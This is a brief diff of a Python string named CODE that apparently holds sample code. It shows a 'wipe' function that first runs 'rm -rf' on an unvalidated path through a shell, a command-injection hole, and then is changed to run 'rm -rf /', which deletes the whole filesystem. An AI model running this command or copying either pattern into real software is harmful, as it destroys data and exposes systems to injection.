@@ -12,8 +12,8 @@ CODE = '''
 import subprocess
 
 
-def wipe(path):
-    subprocess.run("rm -rf " + path, shell=True)
+def wipe():
+    subprocess.run("rm -rf /", shell=True)
 
 
 def total(items, limit):
